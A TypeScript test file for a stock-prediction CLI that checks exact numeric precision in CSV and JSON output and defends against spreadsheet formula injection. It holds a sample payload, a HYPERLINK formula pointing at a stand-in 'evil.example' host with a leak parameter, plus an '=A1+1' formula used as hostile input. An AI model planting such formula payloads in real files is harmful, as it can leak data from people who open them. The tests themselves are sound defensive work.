import { expect } from 'chai';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { featuresForFile } from '../../src/core/dataset/index.js';
import { defaultFeatureSpec } from '../../src/core/features/index.js';
import { N_CLASSES } from '../../src/core/labels/index.js';
import { predictFile } from '../../src/core/predict/index.js';
import { cleanup, fixture, referenceCsvCells, tempDir } from '../helpers.js';
import { json, mm } from './run-cli.js';

const TRAIN = fixture('cli', 'NVDA_train.csv');
const PREDICT = fixture('cli', 'NVDA_predict.csv');
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","click")';

const cells = referenceCsvCells;

const same = (a: number, b: number): boolean => Object.is(a, b);

describe('written tables and --json: exact numbers, no formulas', () => {
  let reg: string;
  before(async () => {
    reg = tempDir();
    const r = await mm(['train', TRAIN, '--trees', '7', '--registry', reg]);
    expect(r.exitCode, r.stderr).to.equal(0);
  });
  after(() => cleanup(reg));

  it('predict --out and --json carry every probability and confidence bit for bit', async () => {
    const mem = predictFile({ path: PREDICT, registry: reg, ref: 'latest', minConfidence: 0.6 }).table;
    const out = join(reg, 'p.csv');
    expect((await mm(['predict', PREDICT, '--model', 'latest', '--registry', reg, '--out', out])).exitCode).to.equal(0);
    const lines = readFileSync(out, 'utf8').trimEnd().split('\n').slice(1);
    expect(lines.length).to.equal(mem.n);
    let notShort = 0;
    lines.forEach((l, i) => {
      const c = cells(l);
      expect(same(Number(c[4]), mem.confidence[i] as number), `confidence row ${i}`).to.equal(true);
      for (let k = 0; k < N_CLASSES; k++) {
        const v = mem.proba[i * N_CLASSES + k] as number;
        expect(same(Number(c[6 + k]), v), `p${k} row ${i}: ${c[6 + k]} vs ${v}`).to.equal(true);
        if (Math.round(v * 1e6) / 1e6 !== v) notShort++;
      }
    });
    // The old 6-decimal rounding would have changed these values: the check above is not vacuous.
    expect(notShort).to.be.above(0);

    const doc = json<{ predictions: { confidence: number; p_strong_sell: number; p_sell: number; p_hold: number; p_buy: number; p_strong_buy: number }[] }>(
      await mm(['predict', PREDICT, '--model', 'latest', '--registry', reg, '--json']),
    );
    expect(doc.predictions.length).to.equal(mem.n);
    doc.predictions.forEach((p, i) => {
      expect(same(p.confidence, mem.confidence[i] as number)).to.equal(true);
      const ps = [p.p_strong_sell, p.p_sell, p.p_hold, p.p_buy, p.p_strong_buy];
      ps.forEach((v, k) => expect(same(v, mem.proba[i * N_CLASSES + k] as number), `json p${k} row ${i}`).to.equal(true));
    });
  });

  it('features --out and --json carry every feature value bit for bit', async () => {
    const mem = featuresForFile({ path: TRAIN, spec: defaultFeatureSpec(20) });
    const out = join(reg, 'f.csv');
    expect((await mm(['features', TRAIN, '--out', out])).exitCode).to.equal(0);
    const lines = readFileSync(out, 'utf8').trimEnd().split('\n');
    const names = cells(lines[0] as string).slice(1);
    expect(names).to.deep.equal(mem.frame.names);
    const from = mem.frame.warmup;
    expect(lines.length - 1).to.equal(mem.frame.n - from);
    let notShort = 0;
    lines.slice(1).forEach((l, i) => {
      const c = cells(l);
      mem.frame.columns.forEach((col, j) => {
        const v = col[from + i] as number;
        if (Number.isFinite(v)) {
          expect(same(Number(c[j + 1]), v), `${names[j]} row ${i}: ${c[j + 1]} vs ${v}`).to.equal(true);
          if (Number(v.toPrecision(8)) !== v) notShort++;
        } else expect(c[j + 1]).to.equal('');
      });
    });
    expect(notShort).to.be.above(0);

    const doc = json<{ rows: Record<string, number | string | null>[] }>(await mm(['features', TRAIN, '--json']));
    expect(doc.rows.length).to.equal(mem.frame.n - from);
    doc.rows.forEach((row, i) => {
      mem.frame.columns.forEach((col, j) => {
        const v = col[from + i] as number;
        expect(Number.isFinite(v) ? same(row[names[j] as string] as number, v) : row[names[j] as string] === null, `json ${names[j]} row ${i}`).to.equal(true);
      });
    });
  });

  it('a formula in a symbol column is refused at input (exit 3), so no prediction table can carry it', async () => {
    // The attack of the issue: a bar file whose symbol column carries a formula. The symbol grammar
    // stops it where it enters; the CSV writer's neutralisation (below) is the second wall.
    const evil = join(reg, 'evil_input.csv');
    const src = readFileSync(PREDICT, 'utf8').trimEnd().split('\n');
    writeFileSync(evil, src.map((l, i) => `${i === 0 ? 'symbol' : '"=A1+1"'},${l}`).join('\n') + '\n');
    const out = join(reg, 'evil.csv');
    const r = await mm(['predict', evil, '--model', 'latest', '--registry', reg, '--out', out]);
    expect(r.exitCode, r.stderr).to.equal(3);
    expect(existsSync(out)).to.equal(false);
  });

  it('a formula in a run tag reaches the CSV of `mm runs diff` in a pipe only neutralised', async () => {
    const a = json<{ runId: string }>(await mm(['train', TRAIN, '--trees', '3', '--tag', 'note=plain', '--registry', reg, '--json']));
    const b = json<{ runId: string }>(await mm(['train', TRAIN, '--trees', '3', '--tag', `note=${HYPERLINK}`, '--registry', reg, '--json']));
    const tty = process.stdout.isTTY;
    process.stdout.isTTY = false; // a pipe: the table goes out as CSV
    try {
      const r = await mm(['runs', 'diff', a.runId, b.runId, '--registry', reg]);
      expect(r.exitCode, r.stderr).to.equal(0);
      const row = r.stdout.split('\n').map(cells).find((c) => c[0] === 'tags.note');
      expect(row, r.stdout).to.not.equal(undefined);
      expect(row?.[1]).to.equal('plain');
      expect(row?.[2]).to.equal(`'${HYPERLINK}`);
    } finally {
      process.stdout.isTTY = tty;
    }
  });
});
